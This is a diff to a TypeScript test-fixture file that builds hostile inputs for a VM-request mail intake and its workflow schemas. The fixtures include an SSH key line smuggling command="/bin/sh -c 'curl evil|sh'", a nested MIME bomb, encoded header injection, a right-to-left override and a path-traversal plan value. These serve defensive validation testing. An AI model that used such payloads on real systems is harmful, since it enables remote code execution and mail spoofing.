@@ -10,6 +10,7 @@ import {
   Approval, Decision, DiskReplacedAnswer, DiskReplacementInput, GanetiHypervisorSetupInput, HypervisorRebootInput, ProxmoxSnapshotInput, LuksKeyRotationInput, PassphraseAnswer,
   RebootHostInput, RollingClusterRebootInput, VmBackupInput, VmDiskResizeInput, VmRestoreInput, VmSnapshotInput,
 } from '../../common/inputs.js';
+import { MailIntakeInput, VmRequestInput } from '../../common/requests.js';
 
 export interface HostileCase {
   /** The schema's name: a workflow type or an Update name. */
@@ -86,6 +87,14 @@ const HOSTILE_DEVICES: Record<string, string> = {
   'relative': 'dev/sda5',
 };
 
+/** A request as the mail intake hands it to its run (started by hand too: the UI, temporal workflow start). */
+const VM_REQUEST = {
+  workflowId: `vm-request-${'0'.repeat(32)}`, messageId: '<1@laptop>', subject: 'Demande de VM', verdict: 'unverified',
+  from: { address: 'alice@lab.invalid', name: 'Alice' }, reasons: ['alice@lab.invalid is not in the member list'],
+  auth: { dkim: 'none', spf: 'none', dmarc: 'none' }, privateKeySent: false,
+  key: { type: 'ssh-ed25519', bits: 256, fingerprint: `SHA256:${'A'.repeat(43)}`, line: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@laptop' },
+};
+
 /** The runbooks and a valid input of each: every hostile case changes one field of it. */
 export const RUNBOOK_BASES: { target: string; schema: z.ZodObject; base: Record<string, unknown> }[] = [
   { target: 'diskReplacement', schema: DiskReplacementInput, base: { host: 'dom0-hostile' } },
@@ -99,6 +108,8 @@ export const RUNBOOK_BASES: { target: string; schema: z.ZodObject; base: Record<
   { target: 'proxmoxSnapshot', schema: ProxmoxSnapshotInput, base: { host: 'hpve1', vmid: 2010, action: 'snapshot', name: 'before-upgrade' } },
   { target: 'ganetiHypervisorSetup', schema: GanetiHypervisorSetupInput, base: { host: 'gnt-hostile' } },
   { target: 'vmDiskResize', schema: VmDiskResizeInput, base: { host: 'dom0-hostile', guest: 'guest1', volume: 'guest1_root', add: '2G' } },
+  { target: 'vmRequest', schema: VmRequestInput, base: VM_REQUEST },
+  { target: 'mailIntake', schema: MailIntakeInput, base: { pollEvery: '30s' } },
 ];
 
 /** A sealed value of the right shape (never opened: every case here is refused before). */
@@ -221,6 +232,30 @@ const SPECIFIC: HostileCase[] = [
   { target: 'submitPassphrase', label: 'passphrase: an extra field', value: { by: 'bob', passphrase: { ...SEALED_SHAPE, plaintext: PLAINTEXT_SECRET } }, field: 'passphrase' },
   { target: 'approve', label: 'signature: not an SSH signature', value: { by: 'alice', signature: 'ssh-ed25519 AAAA' }, field: 'signature' },
   { target: 'approve', label: 'plan: not a plan hash', value: { by: 'alice', plan: 'sha256:../../etc' }, field: 'plan' },
+  ...Object.entries(HOSTILE_TEXT).flatMap(([label, text]) => [
+    { target: 'vmRequest', label: `subject: ${label}`, value: { ...VM_REQUEST, subject: text }, field: 'subject' },
+    { target: 'vmRequest', label: `from.name: ${label}`, value: { ...VM_REQUEST, from: { address: 'alice@lab.invalid', name: text } }, field: 'from.name' },
+    { target: 'vmRequest', label: `reasons: ${label}`, value: { ...VM_REQUEST, reasons: [text] }, field: 'reasons[0]' },
+  ]),
+  { target: 'vmRequest', label: 'key.line: command= before the type', value: { ...VM_REQUEST, key: { ...VM_REQUEST.key, line: `command="sh" ${VM_REQUEST.key.line}` } }, field: 'key.line' },
+  { target: 'vmRequest', label: 'key.line: a second line', value: { ...VM_REQUEST, key: { ...VM_REQUEST.key, line: `${VM_REQUEST.key.line}\nssh-ed25519 AAAA` } }, field: 'key.line' },
+  { target: 'vmRequest', label: 'key.type: ssh-dss', value: { ...VM_REQUEST, key: { ...VM_REQUEST.key, type: 'ssh-dss' } }, field: 'key.type' },
+  { target: 'vmRequest', label: 'verdict: unknown', value: { ...VM_REQUEST, verdict: 'trusted' }, field: 'verdict' },
+  { target: 'vmRequest', label: 'verdict ok without a member', value: { ...VM_REQUEST, verdict: 'ok', reasons: [] }, field: 'member' },
+  { target: 'vmRequest', label: 'workflowId: not from a Message-ID', value: { ...VM_REQUEST, workflowId: 'mine' }, field: 'workflowId' },
+  { target: 'mailIntake', label: 'pollsPerRun: 0', value: { pollsPerRun: 0 }, field: 'pollsPerRun' },
+  { target: 'mailIntake', label: 'pollsPerRun: a million', value: { pollsPerRun: 1e6 }, field: 'pollsPerRun' },
+  { target: 'vmRequest', label: 'an unknown key', value: { ...VM_REQUEST, approvedBy: 'root' }, field: 'approvedBy' },
+  { target: 'decide', label: 'decision: unknown', value: { operator: 'bob', decision: 'nuke' }, field: 'decision' },
+  { target: 'decide', label: 'skip without a reason', value: { operator: 'bob', decision: 'skip' }, field: 'comment' },
+  { target: 'decide', label: 'skip with a blank reason', value: { operator: 'bob', decision: 'skip', comment: '  ' }, field: 'comment' },
+  { target: 'approve', label: 'approver: missing', value: { comment: 'ok' }, field: 'approver' },
+  { target: 'approve', label: 'an unknown key', value: { approver: 'alice', as: 'root' }, field: 'as' },
+  { target: 'diskReplaced', label: 'operator: missing', value: { comment: 'done' }, field: 'operator' },
+  { target: 'submitPassphrase', label: 'passphrase: in clear', value: { operator: 'bob', passphrase: PLAINTEXT_SECRET }, field: 'passphrase' },
+  { target: 'submitPassphrase', label: 'passphrase: an unknown scheme', value: { operator: 'bob', passphrase: { ...SEALED_SHAPE, sealed: 'rot13' } }, field: 'passphrase' },
+  { target: 'submitPassphrase', label: 'passphrase: not base64', value: { operator: 'bob', passphrase: { ...SEALED_SHAPE, ciphertext: `${PLAINTEXT_SECRET}\n` } }, field: 'passphrase' },
+  { target: 'submitPassphrase', label: 'passphrase: an extra field', value: { operator: 'bob', passphrase: { ...SEALED_SHAPE, plaintext: PLAINTEXT_SECRET } }, field: 'passphrase' },
 ];
 
 /** Every case, generated: one field made hostile per case. */
@@ -234,4 +269,62 @@ export function schemaOf(target: string): z.ZodType {
   const found = [...RUNBOOK_BASES, ...UPDATE_BASES].find((b) => b.target === target);
   if (!found) throw new Error(`no schema for ${target}`);
   return found.schema;
+}
+
+// ---------------------------------------------------------------- hostile request mails (the mail intake)
+
+/** A request mail from `from`, with `body` and optional raw MIME `extraHeaders`; CRLF line ends as on the wire. */
+export function requestMail(o: { from: string; to: string; subject?: string; messageId: string; body: string; extraHeaders?: string[]; contentType?: string }): string {
+  return [
+    `From: ${o.from}`,
+    `To: ${o.to}`,
+    `Subject: ${o.subject ?? 'Demande de VM'}`,
+    `Message-ID: ${o.messageId}`,
+    `Date: ${new Date().toUTCString()}`,
+    'MIME-Version: 1.0',
+    ...(o.extraHeaders ?? []),
+    `Content-Type: ${o.contentType ?? 'text/plain; charset=utf-8'}`,
+    '',
+    o.body,
+    '',
+  ].join('\r\n');
+}
+
+/** A MIME bomb: parts nested inside parts, far beyond what a request holds. */
+function mimeBomb(depth: number): { contentType: string; body: string } {
+  let body = 'ssh-ed25519 AAAA';
+  let contentType = 'text/plain';
+  for (let i = 0; i < depth; i++) {
+    const boundary = `b${i}`;
+    body = [`--${boundary}`, `Content-Type: ${contentType}${i ? `; boundary="b${i - 1}"` : ''}`, '', body, `--${boundary}--`].join('\r\n');
+    contentType = 'multipart/mixed';
+  }
+  return { contentType: `multipart/mixed; boundary="b${depth - 1}"`, body };
+}
+
+/**
+ * Hostile or malformed requests, each from a listed member (so only what is wrong with the mail refuses it): the
+ * raw mail for `key` (a valid public key line) and the reason the verdict must give. None may start a host change.
+ */
+export function hostileRequestMails(o: { member: string; to: string; key: string; privateKey: string }): { label: string; raw: string; reason: RegExp }[] {
+  const id = (label: string) => `<hostile-${label.replace(/\W+/g, '-')}-${Date.now()}@lab.invalid>`;
+  const mail = (label: string, body: string, extra: Partial<Parameters<typeof requestMail>[0]> = {}) =>
+    ({ label, raw: requestMail({ from: o.member, to: o.to, messageId: id(label), body, ...extra }) });
+  const bomb = mimeBomb(60);
+  return [
+    { ...mail('no key', 'Bonjour, je voudrais une VM.'), reason: /no SSH public key/ },
+    { ...mail('two keys', `${o.key}\r\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl other`), reason: /2 SSH public keys/ },
+    { ...mail('a key with command=', `command="/bin/sh -c 'curl evil|sh'",no-pty ${o.key}`), reason: /options before its type/ },
+    { ...mail('a key with from=', `from="10.0.0.0/8" ${o.key}`), reason: /options before its type/ },
+    { ...mail('a DSA key', 'ssh-dss AAAAB3NzaC1kc3MAAACBAP8= old'), reason: /ssh-dss is not accepted/ },
+    { ...mail('a truncated key', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0'), reason: /truncated|not valid base64|32 bytes/ },
+    { ...mail('a key whose data says another type', `ssh-rsa ${o.key.split(' ')[1]}`), reason: /does not match its type/ },
+    { ...mail('a private key', `${o.key}\r\n${o.privateKey.replace(/\n/g, '\r\n')}`), reason: /PRIVATE SSH key/ },
+    { ...mail('a MIME bomb', bomb.body, { contentType: bomb.contentType }), reason: /MIME parts/ },
+    { ...mail('a huge mail', `${o.key}\r\n${'A'.repeat(76).concat('\r\n').repeat(4000)}`), reason: /bytes: a request is at most/ },
+    { ...mail('a From with a newline (encoded)', o.key, { from: `=?utf-8?B?${Buffer.from('Alice\r\nBcc: everyone@lab.invalid').toString('base64')}?= <${o.member}>` }), reason: /header injection/ },
+    { ...mail('a From name with a right-to-left override', o.key, { from: `=?utf-8?B?${Buffer.from('Alice\u202eecilA').toString('base64')}?= <${o.member}>` }), reason: /header injection/ },
+    { ...mail('two From headers', o.key, { extraHeaders: [`From: root@lab.invalid`] }), reason: /exactly one From header/ },
+    { ...mail('a From with two addresses', o.key, { from: `${o.member}, root@lab.invalid` }), reason: /exactly one sender/ },
+  ];
 }
